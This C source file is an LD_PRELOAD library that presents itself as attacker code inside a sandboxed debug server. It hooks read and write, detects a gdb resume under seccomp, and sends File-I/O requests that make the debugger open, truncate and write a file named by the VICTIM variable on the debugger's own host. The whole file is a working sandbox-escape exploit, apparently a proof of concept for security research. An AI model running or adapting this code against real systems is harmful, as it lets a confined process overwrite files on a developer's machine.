/* SPDX-License-Identifier: MIT */
/*
 * A library for LD_PRELOAD: code of an attacker in a server that is in a sandbox.  It answers the debugger's first resume
 * with requests to write the file VICTIM on the debugger's side (gdb's File-I/O), and then lets the server go on.
 */
#include <errno.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Where the server pretends to have the name and the text. */
#define NAME_AT 0x1000u
#define TEXT_AT 0x2000u
#define TEXT	"written by the debugger\n"

static bool is_armed, is_done;

static void put_bytes(int fd, const char *data, size_t len)
{
	char packet[8192];
	unsigned sum = 0;
	size_t n = 0;

	packet[n++] = '$';
	for (size_t i = 0; i < len && n + 4 < sizeof(packet); i++) {
		sum += (unsigned char)data[i];
		packet[n++] = data[i];
	}
	n += (size_t)sprintf(packet + n, "#%02x", sum & 255);
	syscall(SYS_write, fd, packet, n);
}

static void put(int fd, const char *text)
{
	put_bytes(fd, text, strlen(text));
}

/* Returns false at the end of the connection. */
static bool get_byte(int fd, char *c)
{
	long n;

	while ((n = syscall(SYS_read, fd, c, 1L)) < 0 && errno == EAGAIN) {
		struct pollfd p = { .fd = fd, .events = POLLIN };

		poll(&p, 1, -1);
	}
	return n == 1;
}

static bool get(int fd, char *packet, size_t len)
{
	size_t n = 0;
	char c = 0;

	while (c != '$') {
		if (!get_byte(fd, &c))
			return false;
	}
	while (get_byte(fd, &c) && c != '#') {
		if (n + 1 < len)
			packet[n++] = c;
	}
	packet[n] = '\0';
	return get_byte(fd, &c) && get_byte(fd, &c);
}

/* The request "m" wants hex, "x" (gdb 16 and later) a "b" and the bytes, none of which needs an escape here. */
static void answer_memory(int fd, char request, unsigned long addr, unsigned long len)
{
	const char *from = addr >= TEXT_AT ? TEXT : getenv("VICTIM");
	size_t off = addr >= TEXT_AT ? addr - TEXT_AT : addr - NAME_AT, have = strlen(from) + 1, n = 0;
	char text[4096] = "b";

	if (request == 'x')
		n = 1;
	for (size_t i = 0; i < len && off + i < have && n + 3 < sizeof(text); i++) {
		if (request == 'x')
			text[n++] = from[off + i];
		else
			n += (size_t)sprintf(text + n, "%02x", (unsigned char)from[off + i]);
	}
	put_bytes(fd, text, n);
}

/* Make the request, and read its answer: the number in it. */
static long ask(int fd, const char *request)
{
	unsigned long addr, len;
	char packet[4096], kind[2];

	put(fd, request);
	while (get(fd, packet, sizeof(packet))) {
		if (sscanf(packet, "%1[mx]%lx,%lx", kind, &addr, &len) == 3)
			answer_memory(fd, kind[0], addr, len);
		else if (packet[0] == 'F')
			return strtol(packet + 1, NULL, 16);
		else
			put(fd, "");
	}
	return -1;
}

static void attack(int fd)
{
	char request[200];
	long file;

	snprintf(request, sizeof(request), "Fopen,%x/%zx,601,1a4", NAME_AT, strlen(getenv("VICTIM")) + 1);
	file = ask(fd, request);
	snprintf(request, sizeof(request), "Fwrite,%lx,%x,%zx", file, TEXT_AT, strlen(TEXT));
	ask(fd, request);
	snprintf(request, sizeof(request), "Fclose,%lx", file);
	ask(fd, request);
}

ssize_t read(int fd, void *to, size_t len)
{
	ssize_t n = syscall(SYS_read, fd, to, len);

	if (n > 0 && getenv("VICTIM") && memmem(to, (size_t)n, "$vCont;", 7) && prctl(PR_GET_SECCOMP) == 2)
		is_armed = true;
	return n;
}

ssize_t write(int fd, const void *from, size_t len)
{
	if (is_armed && !is_done && memmem(from, len, "$T", 2)) {
		is_done = true;
		attack(fd);
	}
	return syscall(SYS_write, fd, from, len);
}
